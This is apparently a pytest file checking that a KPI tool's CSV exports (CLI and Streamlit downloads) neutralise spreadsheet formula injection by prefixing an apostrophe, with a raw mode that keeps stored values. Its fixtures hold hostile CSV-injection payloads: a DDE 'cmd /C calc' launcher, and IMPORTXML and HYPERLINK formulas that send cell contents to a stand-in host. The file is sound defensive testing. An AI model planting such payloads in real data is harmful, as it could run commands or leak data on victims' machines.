"""CSV a person may open in a spreadsheet (`ccq kpis --format csv`, the app's downloads): text
cells a spreadsheet would run as a formula are neutralised as OWASP advises (a leading ', every
text cell quoted); numbers stay numbers; `ccq kpis --format csv --raw` keeps the values as stored."""
from __future__ import annotations

import csv
import io
from pathlib import Path

import duckdb
import pandas as pd
import pytest
import streamlit
from streamlit.testing.v1 import AppTest

from app_snapshot import make_home, values
from orchestration import cli
from ccq.export import csv_download, neutralise, spreadsheet_safe, write_csv
from ccq.publish import publish
from ccq.settings import Paths

APP = Path(__file__).resolve().parent.parent / "app" / "streamlit_app.py"

# One hostile value per kind of text the data brings, each starting with another trigger.
QUEUE_NAME = '=HYPERLINK("http://evil.example/x","click")'
QUEUE_ID = "-Q_EVIL+cmd|' /C calc'!A0"
AGENT_ID = "@SUM(1+9)*cmd|' /C calc'!A0"
REASON = "+acd_queue_events missing; =1+2"
OWNER = "\t=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")"
ACTION = "\r=2+5"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def test_neutralise_follows_owasp():
    for value in (QUEUE_NAME, QUEUE_ID, AGENT_ID, REASON, OWNER, ACTION):
        assert neutralise(value) == "'" + value
    for harmless in ("Billing", "A001", "", " =not first", "'already quoted", -1.3, 0, None, True):
        assert neutralise(harmless) == harmless


def test_exact_bytes_of_a_frame_with_hostile_text_and_negative_numbers():
    df = pd.DataFrame({
        "queue": [QUEUE_NAME, "Billing"],
        "agent_id": [AGENT_ID, "A001"],
        "certification_reason": [REASON, None],
        "owner_role": [OWNER, ACTION],
        "value": [-1.3, 0.5],
        "offered": [-4, 12],
        "certified": [False, True],
        "period_start": pd.to_datetime(["2026-03-04", "2026-03-05"]),
    })
    safe = write_csv(df)
    assert safe == (
        '"queue","agent_id","certification_reason","owner_role","value","offered","certified","period_start"\n'
        '"\'=HYPERLINK(""http://evil.example/x"",""click"")","\'@SUM(1+9)*cmd|\' /C calc\'!A0",'
        '"\'+acd_queue_events missing; =1+2","\'\t=IMPORTXML(CONCAT(""http://evil.example/?"",A1),""//a"")",'
        '-1.3,-4,False,"2026-03-04"\n'
        '"Billing","A001","","\'\r=2+5",0.5,12,True,"2026-03-05"\n'
    )
    assert csv_download(df) == b"\xef\xbb\xbf" + safe.encode("utf-8")
    # read back, the cells are the values with a leading quote; the numbers are numbers
    back = pd.read_csv(io.StringIO(safe))
    assert list(back["queue"]) == ["'" + QUEUE_NAME, "Billing"]
    assert list(back["value"]) == [-1.3, 0.5] and list(back["offered"]) == [-4, 12]
    # raw keeps the values as they are
    assert write_csv(df, raw=True) == (
        '"queue","agent_id","certification_reason","owner_role","value","offered","certified","period_start"\n'
        '"=HYPERLINK(""http://evil.example/x"",""click"")","@SUM(1+9)*cmd|\' /C calc\'!A0",'
        '"+acd_queue_events missing; =1+2","\t=IMPORTXML(CONCAT(""http://evil.example/?"",A1),""//a"")",'
        '-1.3,-4,False,"2026-03-04"\n'
        '"Billing","A001","","\r=2+5",0.5,12,True,"2026-03-05"\n'
    )
    assert pd.read_csv(io.StringIO(write_csv(df, raw=True)))["owner_role"].tolist() == [OWNER, ACTION]
    assert spreadsheet_safe(df)["value"].tolist() == [-1.3, 0.5]
    assert df["queue"][0] == QUEUE_NAME, "the frame given is not changed"


def _hostile_rows() -> list[dict]:
    rows = values()
    for r in rows:
        if (r["kpi"], r["grain"], str(r["period_start"].date()), r["scope_id"]) == ("asa", "day", "2026-03-04", "*"):
            r.update(certification_reason=REASON, owner_role=OWNER, first_action=ACTION)
        if r["scope_id"] == "A003":
            r["scope_id"] = AGENT_ID
    hostile_queue = dict(next(r for r in rows if r["kpi"] == "asa" and r["scope_id"] == "Q_BILLING"))
    hostile_queue.update(scope_id=QUEUE_ID, numerator=-130.0, value=-1.3, status="missed", certified=True,
                         certification_reason=None)
    return [*rows, hostile_queue]


def _hostile_home(home: Path) -> Paths:
    paths = make_home(home, kpi_values=_hostile_rows())
    with duckdb.connect(str(paths.warehouse)) as con:
        con.execute("UPDATE marts.dim_queues SET queue_name = ?, queue_name_zh = ? WHERE queue_id = 'Q_BILLING'",
                    [QUEUE_NAME, QUEUE_NAME])
    publish(paths)
    return paths


@pytest.fixture
def hostile(tmp_path, monkeypatch) -> Paths:
    paths = _hostile_home(tmp_path)
    for var in ("CCQ_HOME", "CCQ_DUCKDB_PATH", "DAGSTER_HOME"):  # set by the CLI; restored after the test
        monkeypatch.setenv(var, str(tmp_path / var.lower()))
    monkeypatch.setenv("CCQ_HOME", str(tmp_path))
    return paths


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _no_live_formula(text: str) -> None:
    """No cell starts with a formula trigger, but a number (-1.3)."""
    live = [cell for row in _cells(text) for cell in row if cell.startswith(TRIGGERS) and not _number(cell)]
    assert not live, live


def _kpis_csv(capsys, home: Path, *extra: str) -> str:
    capsys.readouterr()
    assert cli.main(["--home", str(home), "kpis", "--format", "csv", "--period", "2026-03-04", *extra]) == 0
    return capsys.readouterr().out


def test_ccq_kpis_csv_is_spreadsheet_safe(hostile, capsys):
    out = _kpis_csv(capsys, hostile.home)
    lines = out.splitlines()
    assert lines[0] == ('"kpi","period_start","scope_type","scope_id","numerator","denominator","value","unit",'
                        '"target","status","certified","certification_reason"')
    assert ('"asa","2026-03-04","queue","\'-Q_EVIL+cmd|\' /C calc\'!A0",-130.0,100.0,-1.3,"seconds",20.0,"missed",'
            'True,""') in lines
    assert '"asa","2026-03-04","all","*",4240.0,100.0,42.4,"seconds",20.0,"missed",False,"\'+acd_queue_events missing; =1+2"' \
        in lines
    assert '"qa_score","2026-03-04","agent","\'@SUM(1+9)*cmd|\' /C calc\'!A0",8200.0,100.0,82.0,"score",85.0,"",True,""' \
        in lines
    _no_live_formula(out)


def test_ccq_kpis_csv_raw_keeps_the_values(hostile, capsys):
    out = _kpis_csv(capsys, hostile.home, "--raw")
    lines = out.splitlines()
    assert lines[0] == ('"kpi","period_start","scope_type","scope_id","numerator","denominator","value","unit",'
                        '"target","status","certified","certification_reason"')
    assert '"asa","2026-03-04","queue","-Q_EVIL+cmd|\' /C calc\'!A0",-130.0,100.0,-1.3,"seconds",20.0,"missed",True,""' \
        in lines
    assert '"asa","2026-03-04","all","*",4240.0,100.0,42.4,"seconds",20.0,"missed",False,"+acd_queue_events missing; =1+2"' \
        in lines
    assert '"qa_score","2026-03-04","agent","@SUM(1+9)*cmd|\' /C calc\'!A0",8200.0,100.0,82.0,"score",85.0,"",True,""' \
        in lines


@pytest.fixture
def downloads(monkeypatch) -> dict[str, str]:
    """file name -> text of every CSV the app offers for download (app.ui calls st.download_button)."""
    got: dict[str, str] = {}
    real = streamlit.download_button

    def spy(label, data=None, *args, **kwargs):
        name = kwargs.get("file_name") or ""
        if name.endswith(".csv"):
            assert isinstance(data, bytes) and data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a BOM for Excel"
            got[name] = data.decode("utf-8-sig")
        return real(label, data, *args, **kwargs)

    monkeypatch.setattr(streamlit, "download_button", spy)
    return got


def _open(page: str, lang: str) -> None:
    at = AppTest.from_file(str(APP), default_timeout=30)
    at.query_params.update({"lang": lang})
    at.run()
    if page != "scorecard":
        at.switch_page(f"views/{page}.py").run()
    assert not at.exception, [e.value for e in at.exception]


def _row(text: str, column: str, value: str) -> dict[str, str]:
    rows = [r for r in csv.DictReader(io.StringIO(text)) if r[column] == value]
    assert len(rows) == 1, (column, value, text)
    return rows[0]


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_app_downloads_are_spreadsheet_safe(hostile, downloads, lang):
    for page in ("scorecard", "service", "agents"):
        _open(page, lang)
    assert downloads, "the pages offer CSV downloads"
    for name, text in downloads.items():
        _no_live_formula(text)

    scorecard = downloads["ccq-scorecard-day-2026-03-04-all-all.csv"]
    asa = _row(scorecard, "kpi", "asa")
    assert (asa["certification_reason"], asa["owner_role"], asa["first_action"]) == (
        "'" + REASON, "'" + OWNER, "'" + ACTION)
    assert asa["value"] == "42.4" and asa["change_vs_previous"] == "17.4"

    by_queue = downloads["ccq-service-by-queue-day-2026-03-04-all-all.csv"]
    assert _row(by_queue, "queue_id", "Q_BILLING")["queue"] == "'" + QUEUE_NAME
    evil = _row(by_queue, "queue_id", "'" + QUEUE_ID)
    assert evil["asa"] == "-1.3", "a negative number is a number, not neutralised"
    assert '"\'=HYPERLINK(""http://evil.example/x"",""click"")"' in by_queue, "quoted as CSV requires"
    assert ",-1.3" in by_queue

    agents = next(text for name, text in downloads.items() if name.startswith("ccq-league-agents-"))
    assert _row(agents, "agent_id", "'" + AGENT_ID)["qa_score"] == "82.0"
